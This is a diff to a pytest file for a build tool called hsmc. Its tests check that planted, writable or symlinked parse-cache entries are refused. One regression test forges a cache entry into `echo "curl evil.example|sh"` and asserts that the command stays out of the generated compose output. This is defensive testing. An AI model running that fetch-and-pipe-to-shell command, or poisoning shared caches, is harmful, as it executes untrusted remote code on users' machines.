@@ -1,10 +1,13 @@
-"""A tampered parse cache changes nothing (issue 14.13): whatever an entry holds, a build with
-the cache gives the same exit code, output and diagnostics as a build without it."""
+"""A planted parse cache entry changes nothing (issues 14.13, 22.2): whatever an entry of another
+user (or one others can write) holds, a build with the cache gives the same exit code, output
+and diagnostics as a build without it. And verify.py's checks, which the fast path's trees
+pass (parse/fast.py): they accept what parsing gives and refuse a tree that is not the file's."""
 
 from __future__ import annotations
 
 import copy
 import json
+import os
 import shutil
 from collections.abc import Callable
 from pathlib import Path
@@ -32,7 +35,7 @@ from hsmc.parse.shapes import (
 from hsmc.parse.source import SourceFile
 from hsmc.parse.tree import Node
 from hsmc.parse.verify import trustworthy
-from tests.conftest import GOLDEN, ROOT, copy_case
+from tests.conftest import GOLDEN, ROOT, copy_case, run_hsmc, write_project
 
 Json = Any  # one cache entry's tree, as JSON: [line, col, key_line, key_col, value]
 
@@ -97,8 +100,9 @@ def _input_files() -> list[tuple[Path, str]]:
     return found
 
 
-def test_every_valid_input_file_is_trusted_from_the_cache() -> None:
-    """The checks of verify.py accept what parsing gives, so warm builds keep their hits."""
+def test_every_valid_input_file_passes_verify() -> None:
+    """The checks of verify.py accept what parsing gives (the fast path declines nothing that
+    libyaml read as strictyaml would)."""
     trusted = 0
     for path, kind in _input_files():
         try:
@@ -241,12 +245,42 @@ def _break_in_validate(project: Path) -> None:
     entry.write_text(entry.read_text().replace("container:qdrant", "container:qdrantt"))
 
 
-@pytest.mark.parametrize("broken", [False, True], ids=["valid", "broken"])
-@pytest.mark.parametrize(
-    "how", ["wrong-shape-json", "another-files-entry", "other-identity", *_TREE_TAMPERING]
-)
-def test_a_tampered_cache_changes_nothing(
-    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, how: str, broken: bool
+def _chown_entries(cache: Path) -> None:
+    for entry in cache.rglob("*.json"):
+        os.chown(entry, NOBODY, NOBODY)
+
+
+def _chmod(paths: list[Path], mode: int) -> None:
+    for path in paths:
+        path.chmod(mode)
+
+
+def _symlinked_entries(cache: Path) -> None:
+    """Each entry moved out of the cache and a symlink to it left in its place."""
+    elsewhere = cache.parent / "elsewhere"
+    elsewhere.mkdir(exist_ok=True)
+    for entry in cache.rglob("*.json"):
+        entry.rename(elsewhere / entry.name)
+        entry.symlink_to(elsewhere / entry.name)
+
+
+NOBODY = 65534
+# How an entry gets into a cache that is not this user's alone; True: hsmc may rewrite the
+# entry (its directory is still private), False: it leaves the directory alone
+PLANTED: dict[str, tuple[Callable[[Path], None], bool]] = {
+    "entry of another user": (_chown_entries, True),
+    "entry others can write": (lambda c: _chmod(list(c.rglob("*.json")), 0o606), True),
+    "entry the group can write": (lambda c: _chmod(list(c.rglob("*.json")), 0o660), True),
+    "entry a symlink": (_symlinked_entries, True),
+    "directory others can write": (lambda c: _chmod([*c.glob("??")], 0o777), False),
+    "cache directory others can write": (lambda c: _chmod([c], 0o1777), False),
+}
+# chown needs root; as any other user the entries are planted by making them writable by all
+_PLANT = "entry of another user" if os.geteuid() == 0 else "entry others can write"
+
+
+def _tampered_build(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, how: str, broken: bool, planted: str
 ) -> None:
     project = copy_case("04-hybrid-stack", tmp_path)
     if broken:
@@ -259,14 +293,79 @@ def test_a_tampered_cache_changes_nothing(
     originals = _entries(cache)
     assert len(originals) >= 5  # hsm.yaml, entries of the project and built-in ones
     _tamper(cache, how)
+    tampered = _entries(cache)
+    plant, rewritten = PLANTED[planted]
+    plant(cache)
     assert _build(project, cache) == reference
-    # every tampered entry was refused, so its file was parsed afresh and the entry rewritten
-    # (or it was left as it was: a manifest has no `name` to rename)
-    assert _entries(cache) == originals
+    # every planted entry was refused, so its file was parsed afresh and the entry rewritten
+    # where the cache is still this user's alone, else left as it was
+    assert _entries(cache) == (originals if rewritten else tampered)
+
+
+@pytest.mark.parametrize("broken", [False, True], ids=["valid", "broken"])
+@pytest.mark.parametrize(
+    "how", ["wrong-shape-json", "another-files-entry", "other-identity", *_TREE_TAMPERING]
+)
+def test_a_planted_entry_changes_nothing(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, how: str, broken: bool
+) -> None:
+    """Every way an entry can lie, planted by another user: the same exit code, output and
+    diagnostics as without the cache."""
+    _tampered_build(tmp_path, monkeypatch, how, broken, _PLANT)
+
+
+@pytest.mark.parametrize("planted", sorted(PLANTED))
+def test_an_entry_is_read_only_from_a_cache_of_this_users_alone(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, planted: str
+) -> None:
+    """The entry, its directory and the cache directory: this user's, writable by nobody else,
+    no symlink (as a build stamp is read)."""
+    if planted == "entry of another user" and os.geteuid() != 0:
+        pytest.skip("files of another user need root to create (os.chown)")
+    _tampered_build(tmp_path, monkeypatch, "values-changed", False, planted)
+
+
+_ISSUE_22 = {
+    "hsm.yaml": "services:\n  container_groups:\n    hello:\n      selection: hello\n",
+    "registry/containers/hello.yaml": (
+        'name: hello\nimage: busybox:1.36\ncommand: "echo \\"hello\\""\n'
+    ),
+}
+
+
+@pytest.mark.parametrize("planted", ["entry of another user", "entry others can write"])
+def test_the_forged_entry_of_issue_22_changes_nothing(tmp_path: Path, planted: str) -> None:
+    """Issue 22, item 2, as reported: a shared HSMC_CACHE_DIR, an entry of another user edited
+    to turn `echo "hello"` (a double-quoted scalar with escapes, which no check of the text
+    can compare without a YAML scanner) into `echo "curl evil.example|sh"`; `--no-cache
+    --check` must find the build's output exactly as it would be without the cache."""
+    if planted == "entry of another user" and os.geteuid() != 0:
+        pytest.skip("files of another user need root to create (os.chown)")
+    project = write_project(tmp_path / "project", _ISSUE_22)
+    env = {"HSMC_CACHE_DIR": str(tmp_path / "cache")}
+    assert run_hsmc("build", "--no-cache", "-o", "first", cwd=project, env=env).returncode == 0
+    assert run_hsmc("build", "-o", "warm", cwd=project, env=env).returncode == 0
+    forged = 0
+    for entry in (tmp_path / "cache").rglob("*.json"):
+        text = entry.read_text()
+        if '"echo \\"hello\\""' in text:
+            entry.write_text(text.replace('echo \\"hello\\"', 'echo \\"curl evil.example|sh\\"'))
+            forged += 1
+    assert forged == 1
+    PLANTED[planted][0](tmp_path / "cache")
+    built = run_hsmc("build", "-o", "out", cwd=project, env=env)
+    assert built.returncode == 0, built.stderr
+    compose = (project / "out" / "docker-compose.yml").read_text()
+    assert "evil.example" not in compose and 'echo \\"hello\\"' in compose
+    check = run_hsmc("build", "--no-cache", "--check", "-o", "out", cwd=project, env=env)
+    assert check.returncode == 0, check.stdout + check.stderr
 
 
 def test_a_trusted_entry_is_used(tmp_path: Path) -> None:
-    """The checks are not so strict that nothing passes: a warm build hits for every file."""
+    """A warm build hits for every file, and uses an entry of this user's as it is: its tree
+    is not compared with the file's text again (decisions.md, "Parse cache": only this user can
+    have written it). So an entry this user edits by hand is what the build uses, as an output
+    this user edits by hand is what compose runs."""
     project = copy_case("04-hybrid-stack", tmp_path)
     cache = tmp_path / "cache"
     _build(project, cache)
@@ -283,6 +382,8 @@ def test_a_trusted_entry_is_used(tmp_path: Path) -> None:
         assert _build(project, cache)[0] == 0
     assert calls == []
     assert {p: p.stat().st_mtime_ns for p in cache.rglob("*.json")} == stamps
+    _tamper(cache, "values-changed")  # as this user: private still
+    assert _build(project, cache) != _build(project, None)
 
 
 # --- the checks against every style of YAML a file may use -----------------------------------
